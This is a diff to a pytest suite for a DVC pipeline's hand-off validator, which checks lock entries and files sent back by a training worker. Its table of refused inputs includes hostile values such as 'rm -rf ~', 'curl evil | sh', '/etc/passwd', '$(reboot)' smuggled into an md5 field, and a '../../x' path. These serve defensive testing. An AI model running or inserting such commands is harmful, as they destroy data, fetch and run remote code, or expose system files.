@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import copy
+import hashlib
+import json
 import os
 from pathlib import Path
 from types import SimpleNamespace
@@ -19,18 +21,47 @@ def repo(tmp_path_factory) -> Path:
     return copy_project(tmp_path_factory.mktemp("handoff") / "orchestrator")
 
 
-@pytest.fixture(scope="module")
-def good(repo) -> dict:
-    """A hand-off as a worker that trained with this checkout's dvc.yaml sends it."""
+RUN_FILE = "reports/mlflow_run.json"
+HISTORY = "reports/train_history.csv"
+
+
+def _out(path: str, kind: str, text: str | None = None) -> dict:
+    """A lock entry's out as DVC 3 writes it: a file's md5 and size, or a folder's `.dir` md5 and file count."""
+    if kind == "folder":
+        return {"path": path, "hash": "md5", "md5": "2" * 32 + ".dir", "size": 10, "nfiles": 2}
+    data = (text or "binary").encode()
+    return {"path": path, "hash": "md5", "md5": hashlib.md5(data).hexdigest(), "size": len(data)}
+
+
+def _entry(repo: Path, files: dict[str, str]) -> dict:
     declared = dvcrun._stage_paths(repo, dvcrun.TRAIN)
-    entry = {
+    kinds = dvcrun.train_outputs(repo)
+    return {
         "cmd": declared["cmd"],
         "deps": [{"path": d, "hash": "md5", "md5": "0" * 32, "size": 1} for d in sorted(declared["deps"])],
-        "params": {"params.yaml": {"train": {"epochs": 2}}},
-        "outs": [{"path": o, "hash": "md5", "md5": "1" * 32, "size": 2} for o, _ in declared["outs"]],
+        "params": copy.deepcopy(declared["params"]),
+        "outs": [_out(o, kinds[o], files.get(o)) for o, _ in declared["outs"]],
     }
-    files = {"reports/train_history.csv": "epoch,train_loss\n1,0.5\n", "reports/mlflow_run.json": '{"run_id": "r"}'}
-    return {"lock": {dvcrun.TRAIN: entry}, "files": files}
+
+
+@pytest.fixture(scope="module")
+def good(repo) -> dict:
+    """A hand-off as a worker that trained with this checkout's dvc.yaml and params.yaml sends it."""
+    experiment = yaml.safe_load((repo / "params.yaml").read_text())["mlflow"]["experiment"]
+    run = {"run_id": "a" * 32, "experiment_id": "1", "tracking_uri": "http://127.0.0.1:5001", "experiment": experiment}
+    files = {HISTORY: "epoch,train_loss\n1,0.5\n", RUN_FILE: json.dumps(run)}
+    return {"lock": {dvcrun.TRAIN: _entry(repo, files)}, "files": files}
+
+
+def _set_file(d: dict, rel: str, text: str) -> None:
+    """Change a handed-off file and its lock entry's md5 and size together, as a worker that lies would."""
+    d["files"][rel] = text
+    out = next(o for o in d["lock"]["train"]["outs"] if o["path"] == rel)
+    out.update(md5=hashlib.md5(text.encode()).hexdigest(), size=len(text.encode()))
+
+
+def _out_of(d: dict, rel: str) -> dict:
+    return next(o for o in d["lock"]["train"]["outs"] if o["path"] == rel)
 
 
 def _snapshot(root: Path) -> dict[str, bytes]:
@@ -66,6 +97,40 @@ BAD = {
         lambda d: d["lock"]["train"].update({"cmd": "rm -rf ~"}), "cmd 'rm -rf ~' is not dvc.yaml's"),
     "non-text content": (lambda d: d["files"].update({"reports/train_history.csv": 3}), "not text"),
     "an unexpected key": (lambda d: d.update({"run": "curl evil | sh"}), "unexpected key 'run'"),
+    # text for what train writes as a binary file or a folder
+    "text for the model file": (lambda d: _set_file(d, "models/vae.pt", "not weights"), "writes it as a binary"),
+    "text for the checkpoints folder": (lambda d: d["files"].update({"models/checkpoints": "x"}), "writes it as a binary"),
+    # files that differ from what the lock entry records
+    "a file that is not the one the lock records": (
+        lambda d: d["files"].update({HISTORY: "epoch\n9\n"}), "not the file the lock entry records"),
+    "mlflow_run.json naming another experiment": (
+        lambda d: _set_file(d, RUN_FILE, json.dumps({**json.loads(d["files"][RUN_FILE]), "experiment": "other"})),
+        "names experiment 'other'"),
+    "mlflow_run.json that is not a run record": (
+        lambda d: _set_file(d, RUN_FILE, '{"run_id": "../../x"}'), "not what train writes there"),
+    # every field of the lock entry
+    "params the checkout does not have": (
+        lambda d: d["lock"]["train"]["params"]["params.yaml"]["train"].update({"epochs": 999}), "param 'train'"),
+    "a params entry naming another file": (
+        lambda d: d["lock"]["train"]["params"].update({"/etc/passwd": {}}), "params must hold params.yaml only"),
+    "an undeclared param key": (
+        lambda d: d["lock"]["train"]["params"]["params.yaml"].update({"register": {}}), "param 'register'"),
+    "a folder out recorded as a file": (
+        lambda d: _out_of(d, "models/checkpoints").update(md5="3" * 32, nfiles=None), "recorded as a file"),
+    "a file out recorded as a folder": (
+        lambda d: _out_of(d, "models/vae.pt").update(md5="3" * 32 + ".dir", nfiles=1), "recorded as a folder"),
+    "a malformed md5": (lambda d: _out_of(d, "models/vae.pt").update(md5="$(reboot)"), "is not an md5"),
+    "a negative size": (lambda d: _out_of(d, "models/vae.pt").update(size=-1), "is not a byte count"),
+    "a hash other than md5": (lambda d: _out_of(d, "models/vae.pt").update(hash="none"), "is not md5"),
+    "an extra key in an out": (lambda d: _out_of(d, "models/vae.pt").update(remote="evil"), "unexpected key 'remote'"),
+    "a missing out": (lambda d: d["lock"]["train"]["outs"].pop(0), "is missing"),
+    "an out listed twice": (
+        lambda d: d["lock"]["train"]["outs"].append(dict(d["lock"]["train"]["outs"][0])), "is listed twice"),
+    "a path that is a list": (lambda d: d["lock"]["train"]["deps"].append({"path": ["a"]}), "dep ['a'] is not declared"),
+    "a path that is an object": (lambda d: d["lock"]["train"]["outs"].append({"path": {"a": 1}}), "is not declared"),
+    "outs that are not a list": (lambda d: d["lock"]["train"].update(outs={"models/vae.pt": {}}), "outs is not a list"),
+    "frozen that is not a boolean": (lambda d: d["lock"]["train"].update(frozen="yes"), "frozen is not true or false"),
+    "a stage md5 that is not an md5": (lambda d: d["lock"]["train"].update(md5=1), "md5 1 is not an md5"),
 }  # fmt: skip
 
 
@@ -79,6 +144,14 @@ def test_a_handoff_naming_anything_else_is_refused_and_nothing_is_written(repo, 
     assert expected in msg and "nothing was written" in msg
     assert _snapshot(repo) == before  # not even the hand-off's good files or lock entry
     assert not (repo.parent / "outside.txt").exists() and not Path("/tmp/evil.txt").exists()
+
+
+def test_a_handed_off_file_where_the_checkout_has_a_folder_is_refused(good, tmp_path):
+    target = copy_project(tmp_path / "folder")
+    (target / HISTORY).mkdir(parents=True)  # once raised IsADirectoryError half-way through adopting
+    with pytest.raises(dvcrun.HandoffRefused, match="a folder in this checkout"):
+        dvcrun.adopt(target, good)
+    assert (target / HISTORY).is_dir() and not (target / "dvc.lock").exists()
 
 
 def test_every_problem_is_listed_at_once(repo, good):
